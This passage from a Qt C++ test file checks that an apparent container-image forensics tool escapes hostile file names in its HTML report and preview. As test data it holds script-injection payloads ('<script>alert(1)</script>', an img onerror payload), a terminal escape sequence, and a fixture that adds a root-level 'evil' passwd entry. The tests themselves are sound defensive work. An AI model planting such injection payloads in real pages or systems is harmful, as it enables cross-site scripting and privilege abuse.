        QSignalSpy activated(&view, &WarningsView::diagnosticActivated);
        view.table()->setFocus();
        view.table()->setCurrentIndex(view.proxy()->index(0, 0));
        QTest::keyClick(view.table(), Qt::Key_Enter);
        QCOMPARE(activated.count(), 1);
        const Diagnostic d = qvariant_cast<Diagnostic>(activated.at(0).at(0));
        QCOMPARE(d.evidence, QStringLiteral("/cases/42/broken.tar"));
        QCOMPARE(d.offset, 1024);
    }

    void htmlSummaryEscapesHostileNames()
    {
        const QString html = ReportHtml::write(sampleAnalysis());
        QVERIFY(html.startsWith(QStringLiteral("<!DOCTYPE html>")));
        QVERIFY(!html.contains(QStringLiteral("<script")));
        QVERIFY(!html.contains(QStringLiteral("<img")));
        QVERIFY(!html.contains(QStringLiteral("<?php")));
        QVERIFY(html.contains(QStringLiteral("/cases/42/&lt;script&gt;alert(1)&lt;/script&gt;.tar")));
        QVERIFY(html.contains(QStringLiteral("&lt;img src=x onerror=alert(1)&gt;")));
        // Nothing to fetch: no external references at all.
        QVERIFY(!html.contains(QStringLiteral("src=\"")));
        // Only in-document links (the table of contents), never to another resource.
        QVERIFY(!html.contains(QRegularExpression(QStringLiteral("href=\"[^#]"))));
        QVERIFY(html.contains(QStringLiteral("href=\"#")));
        // The sections and their values.
        QVERIFY(html.contains(ImageSha));
        QVERIFY(html.contains(QStringLiteral("shop/web:1.0")));
        QVERIFY(html.contains(QStringLiteral("75.0000 %"))); // dive's score
        QVERIFY(html.contains(QStringLiteral("7000 B")));     // wasted bytes, exact
        QVERIFY(html.contains(QStringLiteral("5000 B")));     // truly wasted, exact
        QVERIFY(html.contains(QStringLiteral("FAILED (1 of 1 checks)")));
        QVERIFY(html.contains(QStringLiteral("layer 1 diff_id")));
        QVERIFY(html.contains(QStringLiteral("SUID binary added")));
        QVERIFY(html.contains(QStringLiteral("shop/web:1.0 (") + ImageId + u')'));
        QVERIFY(html.contains(QStringLiteral("class=\"label\">Layer</td><td class=\"mono wrap\">1</td>")));
        QVERIFY(html.contains(QStringLiteral("RT-20")));
        QVERIFY(html.contains(QStringLiteral("hostconfig.json:HostConfig.Privileged")));
        QVERIFY(html.contains(QStringLiteral("The layer blob is truncated: 512 of 2048 bytes")));
        // Control characters are shown, not passed through.
        Analysis a;
        EvidenceItem e;
        e.path = QStringLiteral("/cases/esc\x1b[31mred.tar");
        a.evidence = {e};
        const QString controls = ReportHtml::write(a);
        QVERIFY(!controls.contains(QChar(0x1b)));
        QVERIFY(controls.contains(QStringLiteral("esc") + QChar(0x241b) + QStringLiteral("[31mred.tar")));
    }

    void reportPreview()
    {
        ReportPreview preview;
        preview.setAnalysis(sampleAnalysis());
        QVERIFY(preview.html().contains(ImageSha));
        const QString text = preview.browser()->toPlainText();
        QVERIFY(text.contains(ImageSha));
        QVERIFY(text.contains(QStringLiteral("/cases/42/<script>alert(1)</script>.tar")));
        preview.setAnalysis(Analysis());
        QVERIFY(preview.html().isEmpty());
    }

    void htmlSummaryOfRealImage()
    {
        // A real archive whose file name carries markup, read by the analyser.
        const QByteArray tar0 = TarBuilder().dir("etc").file("etc/passwd", "root:x:0:0\n").bytes();
        const QByteArray tar1 = TarBuilder().file("etc/passwd", "root:x:0:0\nevil:x:0:0\n").bytes();
        ImageArchive archive;
        archive.config = ImageArchive::configFor({tar0, tar1});
        archive.layers = {tar0, tar1};
        const QString path = writeTemp(archive.bytes(), QStringLiteral("evil<script>alert(1)</script>.tar"));
        const Analysis analysis = Analyzer::run({path}, AnalyzeOptions{});
        QCOMPARE(analysis.images.size(), std::size_t(1));
        QCOMPARE(analysis.images[0].layers.size(), std::size_t(2));
        QVERIFY(!analysis.evidence[0].sha256.isEmpty());

        const QString html = ReportHtml::write(analysis);
        QVERIFY(!html.contains(QStringLiteral("<script")));
        QVERIFY(html.contains(QStringLiteral("evil&lt;script&gt;alert(1)&lt;/script&gt;.tar")));
        QVERIFY(html.contains(analysis.evidence[0].sha256));
        QVERIFY(html.contains(analysis.images[0].id));
        QVERIFY(html.contains(QStringLiteral("test/image:1")));

        // The docks take the real analysis as they take a hand-built one.
        WarningsView warnings;
        underTester(warnings.proxy(), &warnings);
        warnings.setAnalysis(analysis);
        QCOMPARE(warnings.model()->rowCount(), int(analysis.diagnostics.size()));
        ReportPreview preview;
        preview.setAnalysis(analysis);
        // Hidden, the preview waits; shown, it renders the report.
        QVERIFY(preview.browser()->toPlainText().isEmpty());
        preview.show();
        QVERIFY(preview.browser()->toPlainText().contains(analysis.evidence[0].sha256));
    }
};

QTEST_MAIN(TestDocks)
#include "tst_docks.moc"
